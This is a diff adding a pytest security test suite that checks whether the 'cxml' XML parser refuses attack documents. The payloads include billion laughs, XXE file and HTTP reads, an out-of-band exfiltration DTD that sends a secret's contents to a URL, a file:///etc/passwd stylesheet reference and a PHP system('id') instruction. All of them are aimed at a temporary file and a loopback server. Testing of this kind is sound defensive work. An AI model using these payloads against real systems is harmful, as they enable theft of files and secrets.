@@ -1,0 +1,472 @@
+"""Hostile documents: `cxml.parse` refuses every XML attack with its own error, fast.
+
+One test runs over the attack recipe of the security reference (§2.3): billion laughs,
+quadratic blowup, XXE (file and loopback HTTP), external DTDs, parameter entities, deep
+nesting, huge text, gzip, oversized bodies, processing instructions, XInclude, namespaces and
+the wrong root. For each payload, as bytes and (where text makes sense) as str:
+
+1. `parse` raises `CxmlParseError` itself, never lxml's error or a ValueError;
+2. the code is the expected one (12100 parse or forbidden, 12102 root, 11750 size);
+3. the secret written under ``tmp_path`` never reaches an error or an issue;
+4. the loopback HTTP server sees no connection;
+5. `parse` and `validate` each finish well under half a second.
+
+Positive controls keep those assertions honest: a permissive lxml parser does leak the secret,
+the loopback counter does count, the gzip payload is a valid document once decompressed, and
+the size and depth payloads parse once their limit is raised.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import gzip
+import os
+import secrets
+import threading
+import time
+import urllib.request
+from collections.abc import Callable, Iterator, Sequence
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any, Literal
+
+import pytest
+from lxml import etree
+
+import cxml
+from cxml import CxmlError, CxmlParseError
+
+#: Written to a file only; it must never come back out of the library.
+SECRET = f"CXMLFLOW-SECRET-{secrets.token_hex(8)}"
+#: The single timing bound the security reference allows; generous on purpose.
+TIME_LIMIT = 0.5
+
+VALID = b'<?xml version="1.0" encoding="UTF-8"?>\n<Response><Say>hello</Say></Response>'
+_SAY_EE = "<Response><Say>&ee;</Say></Response>"
+KNOWN_CHAIN = ("Response", "Gather", "Converse", "Tool", 'Parameter name="a" value="b"')
+
+Form = Literal["bytes", "str"]
+
+
+# -- the loopback server ------------------------------------------------------------------
+
+
+@dataclass
+class Loopback:
+    """A local HTTP server's address and how many connections it has accepted."""
+
+    url: str = ""
+    _hits: int = 0
+    _lock: threading.Lock = field(default_factory=threading.Lock)
+
+    def record(self) -> None:
+        with self._lock:
+            self._hits += 1
+
+    @property
+    def hits(self) -> int:
+        with self._lock:
+            return self._hits
+
+
+def _handler(loopback: Loopback) -> type[BaseHTTPRequestHandler]:
+    class Handler(BaseHTTPRequestHandler):
+        def setup(self) -> None:
+            loopback.record()  # every accepted connection, before any request is read
+            super().setup()
+
+        def do_GET(self) -> None:
+            body = f'<!ENTITY served "served-by-loopback">{SECRET}'.encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "application/xml-dtd")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+    return Handler
+
+
+@pytest.fixture
+def loopback() -> Iterator[Loopback]:
+    state = Loopback()
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(state))
+    server.daemon_threads = True
+    state.url = f"http://127.0.0.1:{server.server_address[1]}"
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
+    thread.start()
+    try:
+        yield state
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join(timeout=5)
+    assert not thread.is_alive()
+
+
+# -- payload builders ---------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Env:
+    """What builders may point at: a directory, the secret's file, the loopback server."""
+
+    tmp: Path
+    secret_file: Path
+    url: str
+
+
+@pytest.fixture
+def env(tmp_path: Path, loopback: Loopback) -> Env:
+    secret_file = tmp_path / "secret.txt"
+    secret_file.write_text(SECRET, encoding="ascii")
+    return Env(tmp_path, secret_file, loopback.url)
+
+
+def _doc(doctype: str, body: str = "<Response><Say>hi</Say></Response>") -> str:
+    return f'<?xml version="1.0"?>\n{doctype}\n{body}'
+
+
+def _nested(tags: Sequence[str]) -> str:
+    """Each tag inside the one before it; a tag may carry attributes."""
+    opening = "".join(f"<{tag}>" for tag in tags)
+    return opening + "".join(f"</{tag.split()[0]}>" for tag in reversed(tags))
+
+
+def billion_laughs(_: Env) -> str:
+    entities = ['<!ENTITY lol0 "lol">']
+    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 11)]
+    body = "<Response><Say>&lol10;</Say></Response>"
+    return _doc("<!DOCTYPE Response [\n" + "\n".join(entities) + "\n]>", body)
+
+
+def quadratic_blowup(_: Env) -> str:
+    entity = f'<!DOCTYPE Response [<!ENTITY big "{"x" * 50_000}">]>'
+    return _doc(entity, "<Response><Say>" + "&big;" * 20_000 + "</Say></Response>")
+
+
+def xxe_file(env: Env) -> str:
+    uri = env.secret_file.as_uri()
+    return _doc(f'<!DOCTYPE Response [<!ENTITY ee SYSTEM "{uri}">]>', _SAY_EE)
+
+
+def xxe_file_in_attribute(env: Env) -> str:
+    uri = env.secret_file.as_uri()
+    body = '<Response><Say voice="&ee;">hi</Say></Response>'
+    return _doc(f'<!DOCTYPE Response [<!ENTITY ee SYSTEM "{uri}">]>', body)
+
+
+def xxe_http(env: Env) -> str:
+    return _doc(f'<!DOCTYPE Response [<!ENTITY ee SYSTEM "{env.url}/xxe">]>', _SAY_EE)
+
+
+def external_dtd_http(env: Env) -> str:
+    return _doc(f'<!DOCTYPE Response SYSTEM "{env.url}/x.dtd">')
+
+
+def external_dtd_file(env: Env) -> str:
+    return _doc(f'<!DOCTYPE Response SYSTEM "{env.secret_file.as_uri()}">')
+
+
+def parameter_entity_http(env: Env) -> str:
+    return _doc(f'<!DOCTYPE Response [<!ENTITY % p SYSTEM "{env.url}/p.dtd"> %p;]>')
+
+
+def parameter_entity_file(env: Env) -> str:
+    uri = env.secret_file.as_uri()
+    return _doc(f'<!DOCTYPE Response [<!ENTITY % p SYSTEM "{uri}"> %p;]>')
+
+
+def _evil_dtd(env: Env, name: str, sink: str) -> str:
+    """An external DTD that reads the secret into ``%file;`` and uses it in ``sink``."""
+    dtd = env.tmp / name
+    dtd.write_text(
+        f'<!ENTITY % file SYSTEM "{env.secret_file.as_uri()}">\n'
+        f"<!ENTITY % eval \"<!ENTITY &#x25; out SYSTEM '{sink}'>\">\n"
+        "%eval;\n%out;\n",
+        encoding="utf-8",
+    )
+    return _doc(f'<!DOCTYPE Response [<!ENTITY % p SYSTEM "{dtd.as_uri()}"> %p;]>')
+
+
+def out_of_band_exfiltration(env: Env) -> str:
+    return _evil_dtd(env, "oob.dtd", f"{env.url}/?leak=%file;")
+
+
+def error_based_exfiltration(env: Env) -> str:
+    return _evil_dtd(env, "error.dtd", "file:///nonexistent/%file;")
+
+
+def nesting_5000(_: Env) -> str:
+    # Short tags keep it under the 64 kB cap, so libxml2's depth limit is what answers.
+    return _nested(["Response", *["x"] * 4_999])
+
+
+def nesting_41(_: Env) -> str:
+    # Deeper than our MAX_DEPTH (32), far below libxml2's 256.
+    return _nested(["Response", *["x"] * 40])
+
+
+def oversized_text(_: Env) -> str:
+    return "<Response><Say>" + "a" * (10 * 1024 * 1024 + 1) + "</Say></Response>"
+
+
+def gzip_bytes(_: Env) -> bytes:
+    return gzip.compress(VALID, mtime=0)
+
+
+def oversized_body(_: Env) -> str:
+    return "<Response><Say>" + "a" * (64 * 1024 + 1) + "</Say></Response>"
+
+
+def stylesheet_pi(_: Env) -> str:
+    return _doc('<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>')
+
+
+def pi_inside_response(_: Env) -> str:
+    return "<Response>\n<?php system('id'); ?>\n<Say>hi</Say>\n</Response>"
+
+
+def xinclude(env: Env) -> str:
+    href = env.secret_file.as_uri()
+    return (
+        '<Response><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
+        f' href="{href}" parse="text"/></Response>'
+    )
+
+
+def xinclude_declared_on_root(env: Env) -> str:
+    href = env.secret_file.as_uri()
+    return (
+        '<Response xmlns:xi="http://www.w3.org/2001/XInclude">'
+        f'<Say><xi:include href="{href}" parse="text"/></Say></Response>'
+    )
+
+
+def namespaced_root(_: Env) -> str:
+    return '<Response xmlns="urn:x"><Say>hi</Say></Response>'
+
+
+def wrong_root(_: Env) -> str:
+    return "<Dial/>"
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    build: Callable[[Env], str | bytes]
+    code: int
+    max_bytes: int | None = cxml.MAX_BYTES
+
+
+ATTACKS = (
+    Attack("billion-laughs", billion_laughs, 12100),
+    Attack("quadratic-blowup", quadratic_blowup, 12100, max_bytes=None),
+    Attack("quadratic-blowup-capped", quadratic_blowup, 11750),
+    Attack("xxe-file", xxe_file, 12100),
+    Attack("xxe-file-attribute", xxe_file_in_attribute, 12100),
+    Attack("xxe-http", xxe_http, 12100),
+    Attack("external-dtd-http", external_dtd_http, 12100),
+    Attack("external-dtd-file", external_dtd_file, 12100),
+    Attack("parameter-entity-http", parameter_entity_http, 12100),
+    Attack("parameter-entity-file", parameter_entity_file, 12100),
+    Attack("oob-exfiltration", out_of_band_exfiltration, 12100),
+    Attack("error-based-exfiltration", error_based_exfiltration, 12100),
+    Attack("nesting-5000", nesting_5000, 12100),
+    Attack("nesting-41", nesting_41, 12100),
+    Attack("oversized-text", oversized_text, 12100, max_bytes=None),
+    Attack("gzip", gzip_bytes, 12100),
+    Attack("oversized-body", oversized_body, 11750),
+    Attack("stylesheet-pi", stylesheet_pi, 12100),
+    Attack("pi-inside-response", pi_inside_response, 12100),
+    Attack("xinclude", xinclude, 12100),
+    Attack("xinclude-declared-on-root", xinclude_declared_on_root, 12100),
+    Attack("namespaced-root", namespaced_root, 12102),
+    Attack("wrong-root", wrong_root, 12102),
+)
+# Builders that return bytes (gzip) have no meaningful str form.
+_TEXT_ONLY = frozenset({"gzip"})
+CASES = [
+    pytest.param(attack, form, id=f"{attack.name}-{form}")
+    for attack in ATTACKS
+    for form in ("bytes", "str")
+    if form == "bytes" or attack.name not in _TEXT_ONLY
+]
+
+
+def _as(form: Form, payload: str | bytes) -> str | bytes:
+    if form == "bytes":
+        return payload.encode("utf-8") if isinstance(payload, str) else payload
+    assert isinstance(payload, str)
+    return payload
+
+
+def _timed_parse_error(payload: str | bytes, **limits: Any) -> tuple[CxmlParseError, float]:
+    start = time.perf_counter()
+    with pytest.raises(CxmlParseError) as caught:
+        cxml.parse(payload, **limits)
+    return caught.value, time.perf_counter() - start
+
+
+# -- the attacks --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("attack", "form"), CASES)
+def test_attack_is_refused(attack: Attack, form: Form, env: Env, loopback: Loopback) -> None:
+    payload = _as(form, attack.build(env))
+
+    err, elapsed = _timed_parse_error(payload, max_bytes=attack.max_bytes)
+    assert type(err) is CxmlParseError
+    assert isinstance(err, CxmlError)
+    assert not isinstance(err, etree.LxmlError | ValueError)
+    assert err.__cause__ is None
+    assert err.code == attack.code, str(err)
+    if attack.code == 11750:
+        assert err.line is None  # refused before parsing: there is no position
+    else:
+        assert err.line is not None
+        assert err.line >= 1
+    assert err.column is None or err.column >= 1
+    assert elapsed < TIME_LIMIT
+
+    start = time.perf_counter()
+    issues = cxml.validate(payload, max_bytes=attack.max_bytes)
+    assert time.perf_counter() - start < TIME_LIMIT
+    assert [(issue.code, issue.severity, issue.line) for issue in issues] == [
+        (attack.code, "error", err.line)
+    ]
+
+    shown = [str(err), repr(err), err.message]
+    shown += [text for issue in issues for text in (str(issue), issue.message, issue.path)]
+    assert not [text for text in shown if SECRET in text]
+    assert loopback.hits == 0
+
+
+# -- positive controls --------------------------------------------------------------------
+
+
+def test_permissive_lxml_leaks_the_secret(env: Env) -> None:
+    # The XXE payload is a real attack: lxml told to resolve entities reads the file.
+    parser = etree.XMLParser(resolve_entities=True)
+    root = etree.fromstring(xxe_file(env).encode(), parser)
+    assert SECRET in etree.tostring(root, encoding="unicode")
+
+
+def test_loopback_counter_counts(loopback: Loopback) -> None:
+    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # no env proxies
+    with opener.open(f"{loopback.url}/probe", timeout=5) as response:
+        assert response.status == 200
+        assert SECRET.encode() in response.read()
+    assert loopback.hits == 1
+
+
+def test_gzip_payload_is_a_valid_document(env: Env) -> None:
+    payload = gzip_bytes(env)
+    assert payload[:2] == b"\x1f\x8b"
+    doc = cxml.parse(gzip.decompress(payload))
+    assert doc == cxml.parse(VALID)
+    assert cxml.validate(gzip.decompress(payload)) == []
+
+
+def test_known_nesting_parses() -> None:
+    text = _nested(KNOWN_CHAIN)
+    assert text.startswith("<Response><Gather><Converse><Tool><Parameter ")
+    doc = cxml.parse(text)
+    assert isinstance(doc.children[0], cxml.Gather)
+    assert cxml.validate(text) == []
+
+
+def test_depth_limit_is_ours_and_exact(env: Env) -> None:
+    # 41 levels parse once the limit is raised, so MAX_DEPTH (not libxml2) refused them.
+    cxml.parse(nesting_41(env), max_depth=64)
+    assert cxml.MAX_DEPTH == 32
+    cxml.parse(_nested(["Response", *["x"] * 31]))
+    err, _ = _timed_parse_error(_nested(["Response", *["x"] * 32]))
+    assert err.code == 12100
+
+
+def test_size_limit_is_the_only_objection(env: Env) -> None:
+    body = oversized_body(env)
+    assert len(body.encode()) > cxml.MAX_BYTES
+    cxml.parse(body, max_bytes=None)
+    err, _ = _timed_parse_error(body.encode(), max_bytes=len(body) - 1)
+    assert err.code == 11750
+    cxml.parse(body, max_bytes=len(body))
+
+
+# -- positions and leading junk -----------------------------------------------------------
+
+
+def test_mismatched_tag_reports_its_line() -> None:
+    text = '<?xml version="1.0"?>\n<Response>\n  <Say>hi</Play>\n</Response>\n'
+    for payload in (text, text.encode()):
+        err, _ = _timed_parse_error(payload)
+        assert (err.code, err.line) == (12100, 3)
+        assert err.column is not None
+        assert err.column >= 1
+        assert [(issue.code, issue.line) for issue in cxml.validate(payload)] == [(12100, 3)]
+
+
+def test_unquoted_attribute_reports_its_line() -> None:
+    err, _ = _timed_parse_error(b"<Response>\n<Say>hi</Say>\n\n<Play loop=2>x</Play></Response>")
+    assert (err.code, err.line) == (12100, 4)
+    assert err.column is not None
+
+
+def test_forbidden_node_reports_its_line() -> None:
+    err, _ = _timed_parse_error("<Response>\n<Say>hi</Say>\n<?pi here?>\n</Response>")
+    assert (err.code, err.line) == (12100, 3)
+
+
+@pytest.mark.parametrize("lead", [" ", "\n", "\t\r\n"])
+def test_whitespace_before_xml_declaration(lead: str) -> None:
+    text = lead + VALID.decode()
+    for payload in (text, text.encode()):
+        err, _ = _timed_parse_error(payload)
+        assert err.code == 12100
+        assert err.line is not None
+    cxml.parse(VALID)  # the same document without the lead is fine
+
+
+# -- known bug ----------------------------------------------------------------------------
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
+@pytest.mark.xfail(
+    reason=(
+        "libxml2 opens file:// external DTDs and parameter entities even with load_dtd=False; "
+        "the DOCTYPE is refused only after parsing, so a FIFO blocks parse() indefinitely"
+    ),
+    strict=True,
+)
+def test_external_subset_on_a_fifo_does_not_block(tmp_path: Path) -> None:
+    fifo = tmp_path / "fifo"
+    os.mkfifo(fifo)
+    payload = _doc(f'<!DOCTYPE Response SYSTEM "{fifo.as_uri()}">')
+    outcome: list[BaseException | None] = []
+
+    def run() -> None:
+        try:
+            cxml.parse(payload)
+        except BaseException as exc:
+            outcome.append(exc)
+        else:
+            outcome.append(None)
+
+    worker = threading.Thread(target=run, daemon=True)
+    worker.start()
+    worker.join(TIME_LIMIT)
+    blocked = worker.is_alive()
+    for _ in range(50):  # bounded: give a blocked open() its writer, then EOF
+        if not worker.is_alive():
+            break
+        with contextlib.suppress(OSError):
+            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
+        worker.join(0.1)
+    assert not worker.is_alive(), "parse() still blocked on the FIFO"
+    assert not blocked, "parse() opened a local FIFO named by the document"
+    assert len(outcome) == 1
+    assert isinstance(outcome[0], CxmlParseError)
